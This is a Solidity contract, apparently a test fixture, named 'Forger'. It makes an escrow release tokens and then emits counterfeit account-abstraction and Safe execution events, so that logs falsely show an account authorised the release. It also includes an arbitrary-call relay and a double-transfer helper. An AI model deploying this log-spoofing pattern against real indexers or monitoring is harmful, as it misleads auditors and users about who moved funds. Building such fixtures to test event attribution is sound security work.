// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

interface Puller {
    function release(address token, uint256 amount) external;
}

/// Has an escrow release money, and says in logs that an account authorised it.
contract Forger {
    event BeforeExecution();
    event UserOperationEvent(
        bytes32 indexed userOpHash,
        address indexed sender,
        address indexed paymaster,
        uint256 nonce,
        bool success,
        uint256 actualGasCost,
        uint256 actualGasUsed
    );
    event ExecutionSuccess(bytes32 indexed txHash, uint256 payment);

    /// @dev What is behind these arguments in the calldata is what the forger claims to have been authorised.
    function forge(Puller escrow, address token, uint256 amount, bytes32 hash, bytes calldata) external {
        emit BeforeExecution();
        escrow.release(token, amount);
        emit UserOperationEvent(hash, address(escrow), address(0), 0, true, 1, 1);
        emit ExecutionSuccess(hash, 0);
    }

    /// @dev As a bundler's own contract.
    function relay(address to, bytes calldata data) external {
        (bool done, ) = to.call(data);
        require(done);
    }

    /// @dev Two withdrawals of an exchange in one transaction.
    function payout(address token, address to, uint256 one, uint256 other) external {
        (bool first, ) = token.call(abi.encodeWithSignature("transfer(address,uint256)", to, one));
        (bool second, ) = token.call(abi.encodeWithSignature("transfer(address,uint256)", to, other));
        require(first && second);
    }
}
